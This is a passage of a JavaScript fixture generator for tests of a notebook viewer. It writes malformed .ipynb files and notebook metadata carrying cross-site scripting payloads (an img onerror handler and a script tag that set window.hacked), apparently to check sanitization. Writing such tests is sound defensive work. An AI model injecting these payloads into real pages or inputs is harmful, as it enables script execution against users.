      kernelspec: { display_name: '<img src=x onerror="window.hacked = \'kernel name\'">', language: 'python', name: 'python3' },
      title: '<script>window.hacked = "title"</script>',
      trusted: true,
    },
  ),
);

// --- files that are no notebooks; not `.ipynb`, so that no test takes them for valid ones

const whole = `${json(small)}\n`;
save('broken/truncated.ipynb.txt', whole.slice(0, whole.length >> 1));
save('broken/empty.ipynb.txt', '');
save('broken/merge-conflict.ipynb.txt', whole.replace('   "source": [', '<<<<<<< HEAD\n   "source": [\n=======\n   "source": [\n>>>>>>> theirs'));
save('broken/duplicate-ids.ipynb.txt', whole.replace('"id": "run"', '"id": "text"'));
save('broken/no-cells.ipynb.txt', `${json({ metadata: {}, nbformat: 4, nbformat_minor: 5 })}\n`);
save('broken/future.ipynb.txt', `${json({ ...small, nbformat: 5, nbformat_minor: 0 })}\n`);
save('broken/wrong-kinds.ipynb.txt', `${json(notebook([{ ...code('a', ''), outputs: [{ output_type: 'display_data' }, { name: 'stdout', output_type: 'stream', text: 7 }] }, { ...markdown('b', ''), source: 7 }]))}\n`);
save('broken/a-list.ipynb.txt', '[1, 2, 3]\n');
